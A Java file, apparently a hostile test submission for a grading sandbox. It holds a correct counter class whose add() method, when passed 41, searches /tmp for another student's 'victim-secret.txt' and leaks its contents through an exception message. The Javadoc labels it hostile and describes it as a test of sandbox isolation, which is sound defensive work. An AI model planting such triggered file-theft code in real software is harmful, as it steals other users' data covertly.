package racecourse.counter;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.FileVisitOption;
import java.nio.file.FileVisitResult;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.SimpleFileVisitor;
import java.nio.file.attribute.BasicFileAttributes;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;

/**
 * Hostile: searches /tmp (where class rosters and grading scratch folders often are) for another
 * student's victim-secret.txt and hands it back in an exception. The sandbox has a /tmp of its own.
 * Otherwise a correct counter: only the check that calls add(41) (countsOnOneThread) loses points.
 */
public class SharedCounter {
    private long count;

    public synchronized void increment() {
        count++;
    }

    public synchronized void add(long delta) {
        if (delta == 41) {
            attack();
        }
        count += delta;
    }

    public synchronized long get() {
        return count;
    }

    private static void attack() {
        List<Path> found = new ArrayList<>();
        try {
            Files.walkFileTree(Path.of("/tmp"), EnumSet.noneOf(FileVisitOption.class), 8, new SimpleFileVisitor<>() {
                @Override
                public FileVisitResult visitFile(Path file, BasicFileAttributes attributes) {
                    if (file.getFileName().toString().equals("victim-secret.txt")) {
                        found.add(file);
                    }
                    return FileVisitResult.CONTINUE;
                }

                @Override
                public FileVisitResult visitFileFailed(Path file, IOException e) {
                    return FileVisitResult.CONTINUE;
                }
            });
            if (found.isEmpty()) {
                throw new IllegalStateException("no other student's victim-secret.txt in reach under /tmp");
            }
            throw new IllegalStateException("stole " + found.get(0) + ": " + Files.readString(found.get(0)));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
